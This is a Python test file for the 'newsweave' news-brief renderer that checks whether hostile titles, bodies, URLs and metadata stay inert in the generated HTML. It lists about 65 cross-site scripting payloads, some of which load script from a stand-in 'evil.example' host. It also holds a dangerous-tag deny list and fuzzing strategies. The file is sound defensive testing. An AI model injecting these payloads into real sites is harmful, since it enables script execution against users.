"""Issue #6: hostile titles, bodies, URLs, sources and metadata cannot script or reorder the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import newsweave
from newsweave.options import BriefOptions
from newsweave.render.html import CSP, esc, safe_url
from newsweave.types import Article

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "`onmouseover=alert(1)`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))">',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click",
    'x" style="position:fixed;top:0;left:0;width:100%;height:100%',
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr\x00ipt>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "http://example.com/\"><script>alert(1)</script>",
    "http://example.com/ onmouseover=alert(1)",
    "http://example.com/'onmouseover='alert(1)",
    "https://example.com/<script>",
    "//evil.example/x.js",
    "http:\\\\evil.example\\x",
    "\u202egnp.exe\u202c <script>alert(1)</script>",
    "\u2067\u202e<img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
)

DANGEROUS_TAGS = frozenset(
    "script iframe object embed img svg math form input button base link video audio source "
    "template noscript details marquee textarea frame frameset isindex x mglyph mtext table".split()
)
BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _tags(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Collect()
    parser.feed(page)
    parser.close()
    return parser.tags


def _records(payload: str, k: int) -> list[dict[str, str]]:
    """Two reports of one story with the payload in every field a source controls."""
    body = (
        f"Mayor Anna Smith said \"{payload}\" at the council meeting on Monday.\n"
        f"The council approved the harbour budget of 40 million dollars on Monday, {payload}.\n"
        "Officials said the harbour works would start in March and last two years.\n"
        f"\u201cThe harbour {payload} will not stop us,\u201d Mayor Anna Smith told reporters."
    )
    other = (
        "The council approved the harbour budget of 45 million dollars on Monday.\n"
        "Mayor Anna Smith said the works would start in March, officials said.\n"
        f"{payload}"
    )
    return [
        {"id": f"x{k}{payload}", "title": payload, "text": body, "url": payload,
         "source": payload, "published": payload},
        {"id": f"y{k}", "title": f"Budget {payload}", "text": other,
         "url": f"https://example.com/{k}", "source": f"news{payload}", "published": "2016-10-17"},
    ]


def _articles(payload: str, k: int) -> list[Article]:
    """Article objects made by hand (no ingest cleaning): the renderer alone must be safe."""
    return [
        Article(f"raw{k}{payload}", f"The mayor said {payload} on Monday. Roads were closed.",
                title=payload, source=payload, url=payload, published=payload,
                flags=(payload,)),
        Article(f"raw2{k}", f"{payload} The mayor said roads were closed on Monday.",
                title=payload, url=f"http://example.com/?q={payload}"),
    ]


def assert_safe(page: str) -> None:
    low = page.lower()
    assert "<script" not in low
    tags = _tags(page)
    names = [t for t, _ in tags]
    assert not DANGEROUS_TAGS & set(names), DANGEROUS_TAGS & set(names)
    assert names.count("meta") == 4 and names.count("style") == 1 and names.count("body") == 1
    for tag, attrs in tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert name in {"class", "id", "href", "dir", "title", "lang", "charset", "rel",
                            "name", "content", "http-equiv"}, (tag, name)
            v = "".join((value or "").split()).lower()
            assert not v.startswith(("javascript:", "vbscript:", "data:")), (tag, name, v)
            if name == "href":
                assert value and (value.startswith("#") or value.startswith(("http://", "https://")))
    csp = [dict(a) for t, a in tags if t == "meta" and dict(a).get("http-equiv")]
    assert csp and csp[0]["http-equiv"] == "Content-Security-Policy"
    assert "default-src 'none'" in csp[0]["content"] and "script-src 'none'" in csp[0]["content"]
    assert not BIDI_CONTROLS & set(page)


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("k", range(len(PAYLOADS)))
def test_payload_in_every_field_is_inert(k: int) -> None:
    payload = PAYLOADS[k]
    b = newsweave.brief(_records(payload, k), options=BriefOptions(analyze=True))
    assert_safe(b.to_html())
    raw = newsweave.brief(_articles(payload, k), options=BriefOptions(analyze=False))
    assert_safe(raw.to_html())


def test_all_payloads_in_one_page_and_text_is_still_shown() -> None:
    records = [r for k, p in enumerate(PAYLOADS[:20]) for r in _records(p, k)]
    b = newsweave.brief(records, options=BriefOptions(analyze=True))
    page = b.to_html()
    assert_safe(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, not dropped


def test_bidi_text_is_isolated() -> None:
    arts = [
        Article("ar", "قال المتحدث إن الجسر أعيد فتحه يوم الجمعة. وأكد المسؤولون الخبر.",
                title="\u202eعنوان الخبر", source="\u2067مصدر"),
        Article("en", "The spokesman said the bridge reopened on Friday. Officials confirmed it.",
                title="Bridge reopens"),
    ]
    page = newsweave.brief(arts, options=BriefOptions(analyze=False)).to_html()
    assert_safe(page)
    assert '<h3 dir="auto">[1] <bdi>عنوان الخبر</bdi></h3>' in page
    for line in page.splitlines():
        if line.startswith("<p") and "class=\"meta\"" not in line:
            assert line.startswith('<p dir="auto">'), line


def test_esc_and_safe_url() -> None:
    assert esc('<a href="x">\u202e') == "&lt;a href=&quot;x&quot;&gt;"
    assert esc("'") == "&#x27;"
    assert safe_url(" https://example.com/a?b=c&d=e ") == "https://example.com/a?b=c&d=e"
    for bad in ("javascript:alert(1)", "http://x.com/\"", "http://x.com/ y", "ftp://x",
                "http://x.com/\u202e", "http://x.com/\x00", "data:text/html,x", "//x.com",
                "http://x.com/`", "http://x.com/" + "a" * 3000):
        assert safe_url(bad) is None, bad
    assert "script-src 'none'" in CSP


_PIECE = st.one_of(
    st.sampled_from(list("<>\"'`&=;:/\\ \n\t\u202e\u2066\u200f\x00\x1b")),
    st.sampled_from(["script", "onerror", "javascript:", "href", "<a ", "img", "svg",
                     "http://x.com/", "&#106;"]),
    st.characters(),
)
_HOSTILE = st.lists(_PIECE, max_size=20).map("".join)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(_HOSTILE, _HOSTILE, _HOSTILE, _HOSTILE, _HOSTILE), min_size=1,
                max_size=3))
def test_random_hostile_fields_stay_inert(rows) -> None:
    arts = [
        Article(f"{k}{i}", f"The mayor said {body} on Monday. Roads were closed {body}.",
                title=title, source=source, url=url, published=published or None)
        for k, (i, title, body, url, source) in enumerate(rows)
        for published in [title[:10]]
    ]
    assert_safe(newsweave.brief(arts, options=BriefOptions(analyze=False)).to_html())
